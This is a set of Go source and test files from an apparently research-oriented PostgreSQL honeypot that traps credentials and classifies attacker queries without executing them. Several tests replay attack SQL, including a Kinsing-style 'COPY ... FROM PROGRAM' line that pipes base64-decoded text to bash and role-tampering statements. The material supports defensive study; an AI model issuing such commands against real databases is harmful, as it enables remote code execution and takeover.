	e.Honeypot = s.Info
	s.nEvents.Add(1)
	s.sink.Record(e)
}

// Connect records the connection-open event.
func (s *Session) Connect() {
	s.emit(Event{Time: timeOf(s.now()), Kind: EventConnect})
}

// Login records a credential capture. ok reports whether the honeypot
// pretended to accept the login.
func (s *Session) Login(user, pass string, ok bool) {
	s.emit(Event{Time: timeOf(s.now()), Kind: EventLogin, User: user, Pass: pass, OK: ok})
}

// Command records a normalised DBMS action together with a bounded raw
// excerpt.
func (s *Session) Command(action, raw string) {
	if len(raw) > MaxRawCapture {
		raw = raw[:MaxRawCapture]
	}
	s.emit(Event{Time: timeOf(s.now()), Kind: EventCommand, Command: action, Raw: raw})
}

// Close records the connection-close event. It is idempotent.
func (s *Session) Close() {
	if s.closed.Swap(true) {
		return
	}
	s.emit(Event{Time: timeOf(s.now()), Kind: EventClose})
}

// EventCount reports the number of events emitted so far.
func (s *Session) EventCount() int64 { return s.nEvents.Load() }
