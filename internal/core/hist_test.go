package core

import (
	"testing"
	"time"
)

func TestDurationHistObserve(t *testing.T) {
	var h DurationHist
	h.Observe(500 * time.Nanosecond) // bucket 0 (<= 1µs)
	h.Observe(time.Microsecond)      // bucket 0 (inclusive bound)
	h.Observe(3 * time.Microsecond)  // bucket 2 (<= 4µs)
	h.Observe(-time.Second)          // clamps to 0, bucket 0
	h.Observe(time.Hour)             // past the last bound: +Inf only

	if h.Count != 5 {
		t.Fatalf("Count = %d, want 5", h.Count)
	}
	if h.Buckets[0] != 3 {
		t.Fatalf("bucket 0 = %d, want 3", h.Buckets[0])
	}
	if h.Buckets[2] != 1 {
		t.Fatalf("bucket 2 = %d, want 1", h.Buckets[2])
	}
	var inBuckets uint64
	for _, n := range h.Buckets {
		inBuckets += n
	}
	if inBuckets != 4 {
		t.Fatalf("bucketed observations = %d, want 4 (one +Inf overflow)", inBuckets)
	}
	if h.Max != time.Hour {
		t.Fatalf("Max = %s, want 1h", h.Max)
	}
}

func TestDurationHistQuantile(t *testing.T) {
	var h DurationHist
	if got := h.Quantile(0.99); got != 0 {
		t.Fatalf("empty Quantile = %s, want 0", got)
	}
	for i := 0; i < 99; i++ {
		h.Observe(time.Microsecond) // bucket 0
	}
	h.Observe(100 * time.Millisecond)
	if got := h.Quantile(0.5); got != DurationBucketBound(0) {
		t.Fatalf("p50 = %s, want %s", got, DurationBucketBound(0))
	}
	// The p100 must reach the slow observation's bucket.
	p100 := h.Quantile(1.0)
	if p100 < 100*time.Millisecond {
		t.Fatalf("p100 = %s, want >= 100ms", p100)
	}
	// An overflow observation pushes the top quantile to Max.
	h.Observe(time.Hour)
	if got := h.Quantile(1.0); got != time.Hour {
		t.Fatalf("p100 with overflow = %s, want 1h", got)
	}
}

func TestDurationHistMean(t *testing.T) {
	var h DurationHist
	h.Observe(2 * time.Millisecond)
	h.Observe(4 * time.Millisecond)
	if got := h.Mean(); got != 3*time.Millisecond {
		t.Fatalf("Mean = %s, want 3ms", got)
	}
}

func TestDurationBucketBoundsMonotonic(t *testing.T) {
	for i := 1; i < DurationBuckets; i++ {
		if DurationBucketBound(i) != 2*DurationBucketBound(i-1) {
			t.Fatalf("bucket %d bound %s is not double bucket %d bound %s",
				i, DurationBucketBound(i), i-1, DurationBucketBound(i-1))
		}
	}
}
