package postgres

import (
	"net"
	"strings"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

// TestQuerySurface drives the scripted-response handler across the whole
// query surface Sticky Elephant emulates.
func TestQuerySurface(t *testing.T) {
	type step struct {
		sql  string
		tag  string // expected CommandComplete tag ("" = error expected)
		rows int    // DataRow messages expected
	}
	steps := []step{
		{"SELECT version();", "SELECT 1", 1},
		{"SELECT 1;", "SELECT 1", 1},
		{"SELECT pg_sleep(5);", "SELECT 1", 1},
		{"SHOW server_version;", "SHOW", 1},
		{"SET search_path TO public;", "SET", 0},
		{"INSERT INTO t VALUES (1);", "INSERT 0 1", 0},
		{"UPDATE t SET a=1;", "UPDATE 1", 0},
		{"DELETE FROM t;", "DELETE 1", 0},
		{"CREATE USER intruder WITH PASSWORD 'x';", "CREATE ROLE", 0},
		{"ALTER ROLE postgres NOSUPERUSER;", "ALTER ROLE", 0},
		{"BEGIN;", "BEGIN", 0},
		{"", "", 0},                // empty query
		{"FROBNICATE all;", "", 0}, // syntax error
	}
	hp := New(ModeOpen)
	hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		cl := newPGClient(t, conn)
		cl.startup("admin")
		cl.read()
		cl.send('p', EncodePassword("x"))
		cl.readUntil('Z')
		for _, s := range steps {
			cl.send('Q', EncodeQuery(s.sql))
			var tag string
			rows := 0
			sawError := false
			for i := 0; i < 20; i++ {
				m := cl.read()
				switch m.Type {
				case 'C':
					tag = strings.TrimRight(string(m.Payload), "\x00")
				case 'D':
					rows++
				case 'E':
					sawError = true
				}
				if m.Type == 'Z' {
					break
				}
			}
			if s.tag == "" {
				if !sawError && s.sql != "" {
					t.Errorf("%q: expected error response", s.sql)
				}
				continue
			}
			if tag != s.tag {
				t.Errorf("%q: tag = %q, want %q", s.sql, tag, s.tag)
			}
			if rows != s.rows {
				t.Errorf("%q: rows = %d, want %d", s.sql, rows, s.rows)
			}
		}
		cl.send('X', nil)
	})
}

func TestUnexpectedFrontendMessage(t *testing.T) {
	hp := New(ModeOpen)
	events := hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		cl := newPGClient(t, conn)
		cl.startup("admin")
		cl.read()
		cl.send('p', EncodePassword("x"))
		cl.readUntil('Z')
		// 'F' (function call) is not supported by the handler.
		cl.send('F', []byte{0, 0, 0, 0})
		m := cl.readUntil('E')
		fields := ParseErrorResponse(m.Payload)
		if fields['C'] != "0A000" {
			t.Fatalf("sqlstate = %q", fields['C'])
		}
		cl.readUntil('Z')
		cl.send('X', nil)
	})
	var saw bool
	for _, c := range hptest.Commands(events) {
		if c == "UNEXPECTED-MSG" {
			saw = true
		}
	}
	if !saw {
		t.Fatal("unexpected message not logged")
	}
}

func TestFirstWordTruncation(t *testing.T) {
	long := strings.Repeat("x", 100)
	if got := firstWord(long + " rest"); len(got) != 32 {
		t.Fatalf("firstWord length = %d", len(got))
	}
	if got := firstWord("  "); got != "" {
		t.Fatalf("firstWord(blank) = %q", got)
	}
}

func TestGSSEncRequestHandled(t *testing.T) {
	hp := New(ModeLow)
	hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		// GSSENCRequest: length 8, code 80877104.
		gss := []byte{0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x30}
		if _, err := conn.Write(gss); err != nil {
			t.Fatal(err)
		}
		var one [1]byte
		if _, err := conn.Read(one[:]); err != nil || one[0] != 'N' {
			t.Fatalf("GSS response = %v, %v", one[0], err)
		}
	})
}

func TestCancelRequestIgnored(t *testing.T) {
	hp := New(ModeLow)
	events := hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		// CancelRequest: length 16, code 80877102, pid, key.
		cancel := []byte{0, 0, 0, 16, 0x04, 0xd2, 0x16, 0x2e, 0, 0, 0, 1, 0, 0, 0, 2}
		conn.Write(cancel)
	})
	if n := len(hptest.Logins(events)); n != 0 {
		t.Fatalf("cancel produced %d logins", n)
	}
}
