package postgres

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"

	"decoydb/internal/core"
)

// Mode selects the honeypot behaviour.
type Mode int

// Honeypot modes.
const (
	// ModeLow is the Qeeqbox-style credential trap: ask for a cleartext
	// password, log it, reject, close.
	ModeLow Mode = iota
	// ModeOpen is Sticky Elephant's default: accept any credentials and
	// answer queries with scripted results.
	ModeOpen
	// ModeNoLogin is the paper's restricted configuration: password auth
	// always fails.
	ModeNoLogin
)

// ServerVersion is the advertised PostgreSQL version.
const ServerVersion = "12.7 (Ubuntu 12.7-0ubuntu0.20.04.1)"

// Honeypot implements the PostgreSQL honeypot in the selected mode.
type Honeypot struct {
	Mode Mode
}

// New returns a PostgreSQL honeypot in the given mode.
func New(mode Mode) *Honeypot { return &Honeypot{Mode: mode} }

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(h.HandleConn)
}

// HandleConn serves one client connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 8192)
	bw := bufio.NewWriterSize(conn, 8192)

	// Peek at the length prefix before parsing. Non-PostgreSQL bytes on
	// 5432 — RDP cookies, JDWP handshakes, HTTP requests — declare absurd
	// lengths; the paper's Table 9 counts these as "scans for services
	// unrelated to the DBMS", so the raw prefix itself must be preserved
	// for classification, not just a parse error.
	hdr, err := br.Peek(4)
	if err != nil {
		return nil // port scan: connect + close
	}
	if n := uint32(hdr[0])<<24 | uint32(hdr[1])<<16 | uint32(hdr[2])<<8 | uint32(hdr[3]); n < 8 || n > MaxMessage {
		junk := make([]byte, 256)
		rn, _ := br.Read(junk)
		s.Command("PROTOCOL-ERROR", string(junk[:rn]))
		return nil
	}

	st, err := ReadStartup(br)
	if err != nil {
		if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
			return nil
		}
		s.Command("PROTOCOL-ERROR", err.Error())
		return nil
	}
	if st.Protocol == SSLRequestCode || st.Protocol == GSSEncRequest {
		if _, err := conn.Write([]byte{'N'}); err != nil {
			return err
		}
		st, err = ReadStartup(br)
		if err != nil {
			return nil
		}
	}
	if st.Protocol == CancelRequest {
		return nil
	}
	if st.Protocol != ProtocolVersion {
		// Not a v3 startup: could be RDP/JDWP/HTTP junk that happened to
		// parse. Log the raw-ish signal.
		s.Command("NON-PG-HANDSHAKE", fmt.Sprintf("protocol=%d params=%v", st.Protocol, st.Params))
		return nil
	}

	user := st.Params["user"]

	if err := writeMsgs(bw, AuthCleartext()); err != nil {
		return err
	}
	msg, err := ReadMsg(br)
	if err != nil {
		return nil // gave up at the password prompt: still a scouting data point
	}
	if msg.Type != 'p' {
		s.Command("UNEXPECTED-MSG", string(msg.Type))
		return nil
	}
	pass := strings.TrimRight(string(msg.Payload), "\x00")

	switch h.Mode {
	case ModeLow, ModeNoLogin:
		s.Login(user, pass, false)
		e := ErrorResponse("FATAL", "28P01",
			fmt.Sprintf("password authentication failed for user %q", user))
		if err := writeMsgs(bw, e); err != nil {
			return err
		}
		return nil
	case ModeOpen:
		s.Login(user, pass, true)
		if err := writeMsgs(bw,
			AuthOK(),
			ParameterStatus("server_version", ServerVersion),
			ParameterStatus("server_encoding", "UTF8"),
			ParameterStatus("client_encoding", "UTF8"),
			BackendKeyData(4242, 1337),
			ReadyForQuery(),
		); err != nil {
			return err
		}
		return h.queryLoop(ctx, br, bw, s)
	}
	return nil
}

func (h *Honeypot) queryLoop(ctx context.Context, br *bufio.Reader, bw *bufio.Writer, s *core.Session) error {
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		msg, err := ReadMsg(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			return err
		}
		switch msg.Type {
		case 'Q':
			sql := strings.TrimRight(string(msg.Payload), "\x00")
			s.Command(NormalizeQuery(sql), sql)
			if err := writeMsgs(bw, respond(sql)...); err != nil {
				return err
			}
		case 'X':
			return nil
		case 'p':
			// Repeated password message mid-session; ignore.
		default:
			s.Command("UNEXPECTED-MSG", string(msg.Type))
			if err := writeMsgs(bw,
				ErrorResponse("ERROR", "0A000", "unsupported frontend message"),
				ReadyForQuery()); err != nil {
				return err
			}
		}
	}
}

// respond builds the scripted reply for one simple query, the Sticky
// Elephant "handler script" approach: answer plausibly, execute nothing.
func respond(sql string) []Msg {
	action := NormalizeQuery(sql)
	switch action {
	case "SELECT VERSION":
		return []Msg{
			RowDescription("version"),
			DataRow("PostgreSQL " + ServerVersion + " on x86_64-pc-linux-gnu"),
			CommandComplete("SELECT 1"),
			ReadyForQuery(),
		}
	case "DROP TABLE":
		return []Msg{CommandComplete("DROP TABLE"), ReadyForQuery()}
	case "CREATE TABLE":
		return []Msg{CommandComplete("CREATE TABLE"), ReadyForQuery()}
	case "CREATE USER":
		return []Msg{CommandComplete("CREATE ROLE"), ReadyForQuery()}
	case "ALTER USER", "ALTER ROLE":
		return []Msg{CommandComplete("ALTER ROLE"), ReadyForQuery()}
	case "COPY FROM PROGRAM", "COPY":
		return []Msg{CommandComplete("COPY 1"), ReadyForQuery()}
	case "INSERT":
		return []Msg{CommandComplete("INSERT 0 1"), ReadyForQuery()}
	case "UPDATE":
		return []Msg{CommandComplete("UPDATE 1"), ReadyForQuery()}
	case "DELETE":
		return []Msg{CommandComplete("DELETE 1"), ReadyForQuery()}
	case "SET":
		return []Msg{CommandComplete("SET"), ReadyForQuery()}
	case "SHOW":
		return []Msg{
			RowDescription("setting"),
			DataRow("on"),
			CommandComplete("SHOW"),
			ReadyForQuery(),
		}
	case "SELECT", "SELECT PG_SLEEP":
		return []Msg{
			RowDescription("?column?"),
			DataRow(""),
			CommandComplete("SELECT 1"),
			ReadyForQuery(),
		}
	case "TXN":
		return []Msg{CommandComplete("BEGIN"), ReadyForQuery()}
	case "EMPTY":
		return []Msg{{Type: 'I', Payload: nil}, ReadyForQuery()}
	default:
		return []Msg{
			ErrorResponse("ERROR", "42601", "syntax error at or near \""+firstWord(sql)+"\""),
			ReadyForQuery(),
		}
	}
}

func firstWord(s string) string {
	f := strings.Fields(s)
	if len(f) == 0 {
		return ""
	}
	if len(f[0]) > 32 {
		return f[0][:32]
	}
	return f[0]
}

func writeMsgs(bw *bufio.Writer, msgs ...Msg) error {
	for _, m := range msgs {
		if err := WriteMsg(bw, m.Type, m.Payload); err != nil {
			return err
		}
	}
	return bw.Flush()
}
