package postgres

import (
	"bufio"
	"bytes"
	"net"
	"testing"
	"testing/quick"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func TestStartupRoundTrip(t *testing.T) {
	b := EncodeStartup(map[string]string{"user": "postgres", "database": "prod", "application_name": "psql"})
	st, err := ReadStartup(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if st.Protocol != ProtocolVersion {
		t.Fatalf("protocol = %d", st.Protocol)
	}
	if st.Params["user"] != "postgres" || st.Params["database"] != "prod" {
		t.Fatalf("params = %v", st.Params)
	}
}

func TestStartupBounds(t *testing.T) {
	// Declared length below the minimum.
	if _, err := ReadStartup(bytes.NewReader([]byte{0, 0, 0, 5, 0})); err == nil {
		t.Fatal("undersized startup accepted")
	}
	// Declared length above the cap.
	if _, err := ReadStartup(bytes.NewReader([]byte{0x7f, 0xff, 0xff, 0xff})); err == nil {
		t.Fatal("oversized startup accepted")
	}
}

func TestMsgRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteMsg(&buf, 'Q', EncodeQuery("SELECT 1")); err != nil {
		t.Fatal(err)
	}
	m, err := ReadMsg(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if m.Type != 'Q' || string(m.Payload) != "SELECT 1\x00" {
		t.Fatalf("msg = %c %q", m.Type, m.Payload)
	}
}

func TestErrorResponseFields(t *testing.T) {
	m := ErrorResponse("FATAL", "28P01", "password authentication failed for user \"x\"")
	fields := ParseErrorResponse(m.Payload)
	if fields['S'] != "FATAL" || fields['C'] != "28P01" {
		t.Fatalf("fields = %v", fields)
	}
}

func TestNormalizeQuery(t *testing.T) {
	cases := []struct{ sql, want string }{
		{"SELECT version()", "SELECT VERSION"},
		{"select * from users;", "SELECT"},
		{"DROP TABLE IF EXISTS abc123;", "DROP TABLE"},
		{"CREATE TABLE abc123(cmd_output text);", "CREATE TABLE"},
		{"COPY abc123 FROM PROGRAM 'echo x | base64 -d | bash';", "COPY FROM PROGRAM"},
		{"copy t from stdin", "COPY"},
		{"ALTER USER pgg_superadmins WITH PASSWORD 'x'", "ALTER USER"},
		{"ALTER ROLE postgres NOSUPERUSER", "ALTER ROLE"},
		{"SET client_encoding TO 'UTF8'", "SET"},
		{"SHOW server_version", "SHOW"},
		{"BEGIN", "TXN"},
		{"", "EMPTY"},
		{"GARBAGE input", "GARBAGE"},
	}
	for _, c := range cases {
		if got := NormalizeQuery(c.sql); got != c.want {
			t.Errorf("NormalizeQuery(%q) = %q, want %q", c.sql, got, c.want)
		}
	}
}

func pgInfo(cfg string) core.Info {
	return core.Info{DBMS: core.Postgres, Level: core.Medium, Port: 5432, Config: cfg, Group: core.GroupMedium}
}

// pgClient drives the frontend side of the protocol.
type pgClient struct {
	t  *testing.T
	br *bufio.Reader
	c  net.Conn
}

func newPGClient(t *testing.T, c net.Conn) *pgClient {
	return &pgClient{t: t, br: bufio.NewReader(c), c: c}
}

func (p *pgClient) startup(user string) {
	p.t.Helper()
	if _, err := p.c.Write(EncodeStartup(map[string]string{"user": user, "database": user})); err != nil {
		p.t.Fatal(err)
	}
}

func (p *pgClient) read() Msg {
	p.t.Helper()
	m, err := ReadMsg(p.br)
	if err != nil {
		p.t.Fatalf("read msg: %v", err)
	}
	return m
}

func (p *pgClient) send(typ byte, payload []byte) {
	p.t.Helper()
	if err := WriteMsg(p.c, typ, payload); err != nil {
		p.t.Fatal(err)
	}
}

// readUntil reads messages until one of type want arrives (collecting
// types seen), failing after 20 messages.
func (p *pgClient) readUntil(want byte) Msg {
	p.t.Helper()
	for i := 0; i < 20; i++ {
		m := p.read()
		if m.Type == want {
			return m
		}
	}
	p.t.Fatalf("no %c message in 20 reads", want)
	return Msg{}
}

func TestLowModeDeniesAndCaptures(t *testing.T) {
	hp := New(ModeLow)
	events := hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		cl := newPGClient(t, conn)
		cl.startup("postgres")
		if m := cl.read(); m.Type != 'R' {
			t.Fatalf("expected auth request, got %c", m.Type)
		}
		cl.send('p', EncodePassword("postgres123"))
		m := cl.read()
		if m.Type != 'E' {
			t.Fatalf("expected error, got %c", m.Type)
		}
		f := ParseErrorResponse(m.Payload)
		if f['C'] != "28P01" {
			t.Fatalf("sqlstate = %q", f['C'])
		}
	})
	logins := hptest.Logins(events)
	if len(logins) != 1 || logins[0] != [2]string{"postgres", "postgres123"} {
		t.Fatalf("logins = %v", logins)
	}
	for _, e := range events {
		if e.Kind == core.EventLogin && e.OK {
			t.Fatal("low mode accepted a login")
		}
	}
}

func TestOpenModeQueryLoop(t *testing.T) {
	hp := New(ModeOpen)
	events := hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		cl := newPGClient(t, conn)
		cl.startup("admin")
		cl.read() // auth request
		cl.send('p', EncodePassword("anything"))
		cl.readUntil('Z')
		// The Kinsing sequence from the paper's Listing 4.
		for _, q := range []string{
			"DROP TABLE IF EXISTS abc123;",
			"CREATE TABLE abc123(cmd_output text);",
			"COPY abc123 FROM PROGRAM 'echo aGk= | base64 -d | bash';",
			"SELECT * FROM abc123;",
			"DROP TABLE IF EXISTS abc123;",
		} {
			cl.send('Q', EncodeQuery(q))
			cl.readUntil('Z')
		}
		cl.send('X', nil)
	})
	cmds := hptest.Commands(events)
	want := []string{"DROP TABLE", "CREATE TABLE", "COPY FROM PROGRAM", "SELECT", "DROP TABLE"}
	if len(cmds) != len(want) {
		t.Fatalf("commands = %v, want %v", cmds, want)
	}
	for i := range want {
		if cmds[i] != want[i] {
			t.Fatalf("commands[%d] = %q, want %q", i, cmds[i], want[i])
		}
	}
	logins := hptest.Logins(events)
	if len(logins) != 1 {
		t.Fatalf("logins = %v", logins)
	}
	for _, e := range events {
		if e.Kind == core.EventLogin && !e.OK {
			t.Fatal("open mode rejected a login")
		}
	}
}

func TestNoLoginModeRejects(t *testing.T) {
	hp := New(ModeNoLogin)
	hptest.Run(t, hp.Handler(), pgInfo(core.ConfigNoLogin), func(t *testing.T, conn net.Conn) {
		cl := newPGClient(t, conn)
		cl.startup("replicator")
		cl.read()
		cl.send('p', EncodePassword("secret"))
		if m := cl.read(); m.Type != 'E' {
			t.Fatalf("expected error, got %c", m.Type)
		}
	})
}

func TestSSLRequestHandled(t *testing.T) {
	hp := New(ModeLow)
	hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		// SSLRequest: length 8, code 80877103.
		ssl := []byte{0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f}
		if _, err := conn.Write(ssl); err != nil {
			t.Fatal(err)
		}
		var one [1]byte
		if _, err := conn.Read(one[:]); err != nil || one[0] != 'N' {
			t.Fatalf("SSL response = %c, %v", one[0], err)
		}
		cl := newPGClient(t, conn)
		cl.startup("postgres")
		if m := cl.read(); m.Type != 'R' {
			t.Fatalf("expected auth request after SSL refusal, got %c", m.Type)
		}
	})
}

func TestRDPCookieOnPostgresPort(t *testing.T) {
	// Paper Listing 10: RDP negotiation bytes hit 5432. The honeypot must
	// log the anomaly and survive.
	hp := New(ModeOpen)
	events := hptest.Run(t, hp.Handler(), pgInfo(core.ConfigDefault), func(t *testing.T, conn net.Conn) {
		rdp := []byte{0x03, 0x00, 0x00, 0x2b, 0x26, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00}
		rdp = append(rdp, []byte("Cookie: mstshash=Administr\r\n")...)
		conn.Write(rdp)
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 {
		t.Fatalf("commands = %v", cmds)
	}
	if cmds[0] != "PROTOCOL-ERROR" && cmds[0] != "NON-PG-HANDSHAKE" {
		t.Fatalf("command = %q", cmds[0])
	}
}

// Property: typed messages round-trip for any payload under the cap.
func TestMsgRoundTripQuick(t *testing.T) {
	f := func(typ byte, payload []byte) bool {
		if typ == 0 || len(payload) > 4096 {
			return true
		}
		var buf bytes.Buffer
		if err := WriteMsg(&buf, typ, payload); err != nil {
			return false
		}
		m, err := ReadMsg(&buf)
		return err == nil && m.Type == typ && bytes.Equal(m.Payload, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: startup packets round-trip their user/database parameters for
// NUL-free values.
func TestStartupRoundTripQuick(t *testing.T) {
	clean := func(s string) string {
		out := make([]rune, 0, len(s))
		for _, r := range s {
			if r != 0 {
				out = append(out, r)
			}
		}
		return string(out)
	}
	f := func(user, db string) bool {
		user, db = clean(user), clean(db)
		if user == "" {
			user = "u"
		}
		st, err := ReadStartup(bytes.NewReader(EncodeStartup(map[string]string{"user": user, "database": db})))
		if err != nil {
			return false
		}
		return st.Params["user"] == user && st.Params["database"] == db
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
