// Package postgres implements the PostgreSQL honeypots the paper deployed:
// the low-interaction Qeeqbox-style credential trap and the
// medium-interaction "Sticky Elephant" variant that accepts logins and
// answers the simple-query protocol with scripted results.
//
// Two configurations mirror the paper's Section 4.2 deployment: the default
// medium config lets everyone in (real open PostgreSQL), while the
// "nologin" config rejects every password — the paper found the restricted
// variant attracted over twice the login attempts (29,217 vs 14,084).
package postgres

import (
	"fmt"
	"io"
	"strings"

	"decoydb/internal/wire"
)

// Protocol constants.
const (
	ProtocolVersion = 196608   // 3.0
	SSLRequestCode  = 80877103 // magic "SSLRequest" version
	CancelRequest   = 80877102
	GSSEncRequest   = 80877104
)

// MaxMessage bounds one frontend message.
const MaxMessage = 1 << 20

// Startup is the parsed startup packet.
type Startup struct {
	Protocol uint32
	Params   map[string]string // user, database, application_name, ...
}

// ReadStartup reads the untyped startup packet (or an SSL/GSS request,
// reported via the Protocol field).
func ReadStartup(r io.Reader) (Startup, error) {
	n, err := wire.ReadUint32BE(r)
	if err != nil {
		return Startup{}, err
	}
	if n < 8 || n > MaxMessage {
		return Startup{}, fmt.Errorf("%w: startup length %d", wire.ErrFrameTooLarge, n)
	}
	body, err := wire.ReadN(r, int(n-4), MaxMessage)
	if err != nil {
		return Startup{}, err
	}
	rd := wire.NewReader(body)
	proto, err := rd.Uint32BE()
	if err != nil {
		return Startup{}, err
	}
	s := Startup{Protocol: proto, Params: map[string]string{}}
	if proto == SSLRequestCode || proto == CancelRequest || proto == GSSEncRequest {
		return s, nil
	}
	for rd.Len() > 1 {
		k, err := rd.CString()
		if err != nil {
			break
		}
		if k == "" {
			break
		}
		v, err := rd.CString()
		if err != nil {
			break
		}
		s.Params[k] = v
	}
	return s, nil
}

// EncodeStartup renders a startup packet (client side).
func EncodeStartup(params map[string]string) []byte {
	w := wire.NewWriter(64)
	w.Uint32BE(0) // length placeholder
	w.Uint32BE(ProtocolVersion)
	// Deterministic order: user first, then the rest sorted lexically is
	// overkill; user/database are the only keys the honeypot reads.
	if u, ok := params["user"]; ok {
		w.CString("user").CString(u)
	}
	for k, v := range params {
		if k == "user" {
			continue
		}
		w.CString(k).CString(v)
	}
	w.Uint8(0)
	b := w.Bytes()
	b[0] = byte(len(b) >> 24)
	b[1] = byte(len(b) >> 16)
	b[2] = byte(len(b) >> 8)
	b[3] = byte(len(b))
	return b
}

// Msg is one typed protocol message.
type Msg struct {
	Type    byte
	Payload []byte
}

// ReadMsg reads one typed message (frontend or backend).
func ReadMsg(r io.Reader) (Msg, error) {
	t, err := wire.ReadUint8(r)
	if err != nil {
		return Msg{}, err
	}
	n, err := wire.ReadUint32BE(r)
	if err != nil {
		return Msg{}, err
	}
	if n < 4 || n > MaxMessage {
		return Msg{}, fmt.Errorf("%w: message length %d", wire.ErrFrameTooLarge, n)
	}
	payload, err := wire.ReadN(r, int(n-4), MaxMessage)
	if err != nil {
		return Msg{}, err
	}
	return Msg{Type: t, Payload: payload}, nil
}

// WriteMsg writes one typed message.
func WriteMsg(w io.Writer, t byte, payload []byte) error {
	hdr := wire.NewWriter(5 + len(payload))
	hdr.Uint8(t)
	hdr.Uint32BE(uint32(len(payload) + 4))
	hdr.Raw(payload)
	_, err := w.Write(hdr.Bytes())
	return err
}

// Backend message builders.

// AuthCleartext asks the client for a cleartext password.
func AuthCleartext() Msg {
	return Msg{Type: 'R', Payload: wire.NewWriter(4).Uint32BE(3).Bytes()}
}

// AuthOK signals successful authentication.
func AuthOK() Msg {
	return Msg{Type: 'R', Payload: wire.NewWriter(4).Uint32BE(0).Bytes()}
}

// ParameterStatus reports a server parameter.
func ParameterStatus(k, v string) Msg {
	w := wire.NewWriter(len(k) + len(v) + 2)
	w.CString(k).CString(v)
	return Msg{Type: 'S', Payload: w.Bytes()}
}

// BackendKeyData supplies cancel credentials.
func BackendKeyData(pid, key uint32) Msg {
	w := wire.NewWriter(8)
	w.Uint32BE(pid).Uint32BE(key)
	return Msg{Type: 'K', Payload: w.Bytes()}
}

// ReadyForQuery signals the server is idle.
func ReadyForQuery() Msg {
	return Msg{Type: 'Z', Payload: []byte{'I'}}
}

// ErrorResponse builds an error message with severity, SQLSTATE code and
// human message.
func ErrorResponse(severity, code, message string) Msg {
	w := wire.NewWriter(32 + len(message))
	w.Uint8('S').CString(severity)
	w.Uint8('C').CString(code)
	w.Uint8('M').CString(message)
	w.Uint8(0)
	return Msg{Type: 'E', Payload: w.Bytes()}
}

// ParseErrorResponse extracts the severity/code/message fields (client
// side).
func ParseErrorResponse(payload []byte) map[byte]string {
	out := map[byte]string{}
	r := wire.NewReader(payload)
	for r.Len() > 0 {
		f, err := r.Uint8()
		if err != nil || f == 0 {
			break
		}
		v, err := r.CString()
		if err != nil {
			break
		}
		out[f] = v
	}
	return out
}

// RowDescription describes a single-text-column result.
func RowDescription(cols ...string) Msg {
	w := wire.NewWriter(8 + 24*len(cols))
	w.Uint16BE(uint16(len(cols)))
	for _, c := range cols {
		w.CString(c)
		w.Uint32BE(0)      // table oid
		w.Uint16BE(0)      // attr number
		w.Uint32BE(25)     // type oid: text
		w.Uint16BE(0xffff) // typlen -1
		w.Uint32BE(0xffffffff)
		w.Uint16BE(0) // text format
	}
	return Msg{Type: 'T', Payload: w.Bytes()}
}

// DataRow builds a text-format data row.
func DataRow(vals ...string) Msg {
	w := wire.NewWriter(8 + 16*len(vals))
	w.Uint16BE(uint16(len(vals)))
	for _, v := range vals {
		w.Uint32BE(uint32(len(v)))
		w.String(v)
	}
	return Msg{Type: 'D', Payload: w.Bytes()}
}

// CommandComplete reports the command tag ("SELECT 1", "CREATE TABLE"...).
func CommandComplete(tag string) Msg {
	w := wire.NewWriter(len(tag) + 1)
	w.CString(tag)
	return Msg{Type: 'C', Payload: w.Bytes()}
}

// EncodePassword renders a frontend PasswordMessage payload.
func EncodePassword(pass string) []byte {
	w := wire.NewWriter(len(pass) + 1)
	w.CString(pass)
	return w.Bytes()
}

// EncodeQuery renders a frontend Query payload.
func EncodeQuery(sql string) []byte {
	w := wire.NewWriter(len(sql) + 1)
	w.CString(sql)
	return w.Bytes()
}

// NormalizeQuery maps a SQL text to the action token used by the
// classifier and clustering: leading keywords, with the security-relevant
// COPY ... FROM PROGRAM form distinguished (PostgreSQL's code-execution
// primitive, used by Kinsing in the paper's Listing 4).
func NormalizeQuery(sql string) string {
	s := strings.TrimSpace(sql)
	up := strings.ToUpper(s)
	switch {
	case strings.HasPrefix(up, "COPY") && strings.Contains(up, "FROM PROGRAM"):
		return "COPY FROM PROGRAM"
	case strings.HasPrefix(up, "COPY"):
		return "COPY"
	case strings.HasPrefix(up, "DROP TABLE"):
		return "DROP TABLE"
	case strings.HasPrefix(up, "CREATE TABLE"):
		return "CREATE TABLE"
	case strings.HasPrefix(up, "ALTER USER"):
		return "ALTER USER"
	case strings.HasPrefix(up, "ALTER ROLE"):
		return "ALTER ROLE"
	case strings.HasPrefix(up, "CREATE USER"), strings.HasPrefix(up, "CREATE ROLE"):
		return "CREATE USER"
